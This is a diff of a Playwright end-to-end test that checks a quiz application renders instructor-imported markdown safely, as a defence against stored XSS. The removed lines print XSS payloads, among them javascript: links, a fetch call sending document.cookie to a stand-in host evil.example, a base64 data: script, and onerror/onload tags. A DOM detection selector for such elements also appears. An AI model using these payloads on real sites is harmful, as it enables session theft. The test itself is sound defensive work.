@@ -1,5 +1,6 @@
 import { expect, test, type Browser, type Page } from "@playwright/test";
 import { DEMO, signIn } from "./helpers";
+import { hostileGiftImport, hostileJsonImport } from "./hostile-markdown";
 
 // Stored XSS (issue #14): an instructor imports hostile markdown (JSON and GIFT); candidates and admins view it
 // and click every hostile link. Nothing may run: no dialog opens, no request leaves for another host, and the
@@ -7,41 +8,8 @@ import { DEMO, signIn } from "./helpers";
 
 const stamp = Date.now().toString(36);
 const marker = `xss-${stamp}`;
-const sentinel = "window.__xss=1";
-
-const hostilePrompt = [
-  `${marker} prompt.`,
-  `[xss-js-link](javascript:alert('js-link'))`,
-  `[xss-fetch-link](javascript:fetch('https://evil.example/steal?c='+document.cookie);${sentinel})`,
-  `[xss-data-link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
-  `[xss-case-link](JaVaScRiPt:alert('case'))`,
-  `[xss-entity-link](&#106;avascript:alert('entity'))`,
-  `[xss-ref-link][evil]`,
-  `![xss-pixel](https://evil.example/pixel.png)`,
-  `<img src=x onerror="alert('img')"> <script>${sentinel};alert('script')</script>`,
-  `<a href="javascript:alert('raw')">xss-raw-link</a>`,
-  "",
-  "[evil]: javascript:alert('ref')",
-].join(" \n");
-const hostileExplanation = `Explained. [xss-expl-link](javascript:alert('explanation')) <svg onload="alert('svg')"></svg> ![xss-expl-pixel](//evil.example/p.png)`;
-
-const jsonImport = JSON.stringify([
-  {
-    id: `addressing/${marker}-json`,
-    type: "single",
-    chapter: "addressing",
-    section: "ipv4-ipv6",
-    difficulty: "easy",
-    tags: ["security"],
-    prompt: hostilePrompt,
-    explanation: hostileExplanation,
-    choices: [
-      { id: "a", text: "Yes", correct: true, feedback: "Yes." },
-      { id: "b", text: "No", correct: false, feedback: "No." },
-    ],
-  },
-]);
-const giftImport = `::${marker} gift::[markdown]${marker} gift prompt [xss-gift-link](javascript\\:alert('gift')) <img src\\=x onerror\\=alert('gift-img')>{=Yes ~No####[xss-gift-expl](javascript\\:alert('gift-expl'))}`;
+const jsonImport = hostileJsonImport(marker);
+const giftImport = hostileGiftImport(marker);
 
 type Guard = { dialogs: string[]; foreign: string[] };
 
@@ -68,7 +36,12 @@ async function pageAs(browser: Browser, email: string): Promise<{ page: Page; se
 }
 
 /** Clicks each named link inside `scope` (they are inert now), then checks nothing ran and nothing is left armed. */
-async function clickAllAndCheck(page: Page, scope: ReturnType<Page["locator"]>, names: string[], seen: Guard): Promise<void> {
+async function clickAllAndCheck(
+  page: Page,
+  scope: ReturnType<Page["locator"]>,
+  names: string[],
+  seen: Guard,
+): Promise<void> {
   const url = page.url();
   for (const name of names) {
     const link = scope.getByText(name, { exact: true }).first();
@@ -76,7 +49,11 @@ async function clickAllAndCheck(page: Page, scope: ReturnType<Page["locator"]>, 
     await link.click();
     expect(page.url()).toBe(url);
   }
-  expect(await scope.locator('a[href^="javascript:" i], a[href^="data:" i], [onerror], [onload], script, svg, iframe').count()).toBe(0);
+  expect(
+    await scope
+      .locator('a[href^="javascript:" i], a[href^="data:" i], [onerror], [onload], script, svg, iframe')
+      .count(),
+  ).toBe(0);
   expect(await scope.locator('img[src*="evil"]').count()).toBe(0);
   // A round trip to the server after the clicks, so anything they started has had its turn.
   await page.evaluate(() => fetch("/api/health").then((r) => r.status));
@@ -85,9 +62,18 @@ async function clickAllAndCheck(page: Page, scope: ReturnType<Page["locator"]>, 
   expect(seen.foreign).toEqual([]);
 }
 
-const PROMPT_LINKS = ["xss-js-link", "xss-fetch-link", "xss-data-link", "xss-case-link", "xss-entity-link", "xss-ref-link"];
+const PROMPT_LINKS = [
+  "xss-js-link",
+  "xss-fetch-link",
+  "xss-data-link",
+  "xss-case-link",
+  "xss-entity-link",
+  "xss-ref-link",
+];
 
-test("hostile markdown imported by an instructor runs for no one who views it or clicks its links", async ({ browser }) => {
+test("hostile markdown imported by an instructor runs for no one who views it or clicks its links", async ({
+  browser,
+}) => {
   test.setTimeout(180_000);
 
   // The instructor imports one hostile question as JSON and one as GIFT, published at once.
@@ -138,14 +124,29 @@ test("hostile markdown imported by an instructor runs for no one who views it or
   await candidate.getByRole("button", { name: "Submit answers" }).click();
   await expect(candidate).toHaveURL(/\/quizzes\/attempts\//);
   const answers = candidate.locator("main ol > li");
-  await clickAllAndCheck(candidate, answers.filter({ hasText: `${marker} prompt.` }), [...PROMPT_LINKS, "xss-expl-link"], candidateSeen);
-  await clickAllAndCheck(candidate, answers.filter({ hasText: `${marker} gift prompt` }), ["xss-gift-link", "xss-gift-expl"], candidateSeen);
+  await clickAllAndCheck(
+    candidate,
+    answers.filter({ hasText: `${marker} prompt.` }),
+    [...PROMPT_LINKS, "xss-expl-link"],
+    candidateSeen,
+  );
+  await clickAllAndCheck(
+    candidate,
+    answers.filter({ hasText: `${marker} gift prompt` }),
+    ["xss-gift-link", "xss-gift-expl"],
+    candidateSeen,
+  );
   await candidate.context().close();
 
   // An admin (the role an attacker most wants to act as) views the same quiz and the instructor preview.
   const { page: admin, seen: adminSeen } = await pageAs(browser, DEMO.admin);
   await admin.goto("/quizzes/addressing?mode=all");
-  await clickAllAndCheck(admin, admin.locator("main form > ol > li").filter({ hasText: `${marker} prompt.` }), PROMPT_LINKS, adminSeen);
+  await clickAllAndCheck(
+    admin,
+    admin.locator("main form > ol > li").filter({ hasText: `${marker} prompt.` }),
+    PROMPT_LINKS,
+    adminSeen,
+  );
   await admin.goto(`/instructor/questions/addressing/${marker}-json`);
   await clickAllAndCheck(admin, admin.locator("#preview-prompt"), PROMPT_LINKS, adminSeen);
   await admin.context().close();
